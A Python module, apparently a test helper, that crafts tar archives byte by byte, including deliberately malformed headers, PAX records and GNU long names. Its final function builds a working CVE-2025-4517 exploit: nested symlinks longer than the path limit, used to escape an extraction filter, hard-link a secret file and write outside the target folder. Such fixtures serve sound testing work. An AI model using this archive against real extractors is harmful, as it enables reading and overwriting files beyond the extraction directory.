"""Tar files byte by byte, so that they can say what no tar program would write."""

from __future__ import annotations

from collections.abc import Iterable, Mapping

BLOCK = 512
END = bytes(2 * BLOCK)
LINK, HARD_LINK, CHARACTERS, BLOCKS, FOLDER, PIPE = b"2", b"1", b"3", b"4", b"5", b"6"
CONTIGUOUS, SPARSE, LONG_NAME, PAX, GLOBAL = b"7", b"S", b"L", b"x", b"g"


def header(
    name: bytes | str,
    *,
    size: int | bytes = 0,
    kind: bytes = b"0",
    to: bytes | str = b"",
    magic: bytes = b"ustar\x0000",
    right_sum: bool = True,
) -> bytes:
    """Return a header; `size` as bytes stands there as it is."""
    name = name.encode() if isinstance(name, str) else name
    to = to.encode() if isinstance(to, str) else to
    size = b"%011o\0" % size if isinstance(size, int) else size
    fields = (
        name[:100].ljust(100, b"\0"),
        b"0000644\0" + b"0000000\0" * 2,
        size.ljust(12, b"\0"),
        b"00000000000\0" + b" " * 8,
        kind,
        to[:100].ljust(100, b"\0"),
        magic,
    )
    block = b"".join(fields).ljust(BLOCK, b"\0")
    total = sum(block) + (0 if right_sum else 1)
    return block[:148] + b"%06o\0 " % total + block[156:]


def padded(data: bytes) -> bytes:
    """Return data filled up to whole blocks."""
    return data + bytes(-len(data) % BLOCK)


def pax(records: Mapping[str, bytes | str], *, kind: bytes = PAX) -> bytes:
    """Return an extended header with its content."""
    content = b"".join(_record(key.encode(), value) for key, value in records.items())
    return header("PaxHeaders/x", size=len(content), kind=kind) + padded(content)


def _record(key: bytes, value: bytes | str) -> bytes:
    value = value.encode() if isinstance(value, str) else value
    rest = b" " + key + b"=" + value + b"\n"
    length = len(rest) + 1
    while len(str(length)) + len(rest) != length:
        length += 1
    return str(length).encode() + rest


def long_name(name: bytes | str) -> bytes:
    """Return GNU's header for a long name, with its content."""
    name = name.encode() if isinstance(name, str) else name
    link = header("././@LongLink", size=len(name) + 1, kind=LONG_NAME, magic=b"ustar  \0")
    return link + padded(name + b"\0")


def member(name: str, data: bytes = b"", *, kind: bytes = b"0", to: str = "") -> bytes:
    """Return a member as tar programs write it; names of any length."""
    long = {"path": name, "linkpath": to}
    records: dict[str, bytes | str] = {k: v for k, v in long.items() if len(v.encode()) > 100}
    before = pax(records) if records else b""
    return before + header(name, size=len(data), kind=kind, to=to) + padded(data)


def tar(files: Mapping[str, bytes], *, more: Iterable[bytes] = ()) -> bytes:
    """Return a tar file of files, and raw members after them."""
    return b"".join(member(name, data) for name, data in files.items()) + b"".join(more) + END


def beyond_path_max(top: str, *, secret: str) -> list[bytes]:
    """Return the members of CVE-2025-4517: links whose real path is longer than the system allows.

    A filter that resolves names before it extracts believes that the last ones stay inside; written
    one by one, they read and write above the folder.
    """
    part, steps = "d" * 247, "abcdefghijklmnop"
    members, path = [], top
    for step in steps:
        members.append(member(f"{path}/{part}/", kind=FOLDER))
        members.append(member(f"{path}/{step}", kind=LINK, to=part))
        path = f"{path}/{part}"
    links = "/".join(steps)
    members.append(member(f"{top}/{links}/{'l' * 254}", kind=LINK, to="../" * len(steps)))
    up = "/".join((links, "l" * 254, "..", "..", ".."))
    members.append(member(f"{top}/escape", kind=LINK, to=up))
    members.append(member(f"{top}/flaglink", kind=HARD_LINK, to=f"{top}/escape/{secret}"))
    members.append(member(f"{top}/escape/evil.txt", b"evil"))
    return members
